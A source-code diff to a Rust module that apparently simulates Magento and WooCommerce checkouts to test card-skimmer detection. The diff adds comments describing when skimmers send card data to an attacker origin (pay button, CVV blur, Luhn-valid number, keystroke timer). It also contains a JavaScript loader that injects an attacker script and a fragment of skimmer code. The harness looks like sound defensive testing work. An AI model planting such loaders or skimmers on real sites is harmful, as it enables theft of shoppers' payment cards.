@@ -25,6 +25,7 @@
 //! channel and encoding (see the table on [`Wake`]), sending to its own path on the attacker
 //! origin ([`Wake::exfil_path`]).
 
+use super::attacks::insert_before_last;
 use super::{Origin, RecordedRequest, Resource, Shop};
 use std::time::{SystemTime, UNIX_EPOCH};
 
@@ -244,13 +245,23 @@ fn year_of_day(days_since_epoch: i64) -> u32 {
 /// | `KeystrokeTimer` | Woo | attacker `<script src>` in the head | 1.5 s after the last key in a card field | fetch POST (keepalive) | JSON, number hex |
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum Wake {
+    /// M1: sends when "Place Order" runs `review.save()`.
     PayButton,
+    /// M1: sends on a click of the payment step's "Continue" once a card number is typed.
     StepButton,
+    /// WooCommerce: sends on `submit` of `form.checkout`.
     FormSubmit,
+    /// M1: sends when `payment[cc_cid]` loses focus holding 3+ digits and a number is typed.
     CvvBlur,
+    /// WooCommerce: sends once every required billing field, a Luhn-valid card number, the
+    /// expiry and a 3+ digit CVC are filled in.
     BillingComplete,
+    /// M1: sends once the number is Luhn-valid and fits the chosen `payment[cc_type]`, and
+    /// expiry month and year are selected.
     LuhnAndType,
+    /// WooCommerce: sends on a click of `#place_order`, through a jQuery-delegated handler.
     DelegatedClick,
+    /// WooCommerce: sends 1.5 s after the last key typed in a card field.
     KeystrokeTimer,
 }
 
@@ -412,14 +423,6 @@ const KEYSTROKE_TIMER: &str = r#"!function(){var t=null,last='';function v(i){va
 
 /// Inserts a loader script that adds the attacker's script to the page.
 const LOADER: &str = r#"(function(d){var s=d.createElement('script');s.async=true;s.src='{{SCRIPT}}';(d.body||d.head).appendChild(s)})(document);"#;
-
-/// Inserts `text` before the last `marker` of a body (or panics: the page lost its structure).
-fn insert_before_last(body: &mut String, marker: &str, text: &str) {
-    match body.rfind(marker) {
-        Some(at) => body.insert_str(at, text),
-        None => panic!("shop: `{marker}` not found in the checkout page"),
-    }
-}
 
 impl Shop {
     /// Serves the clean files of one checkout again.
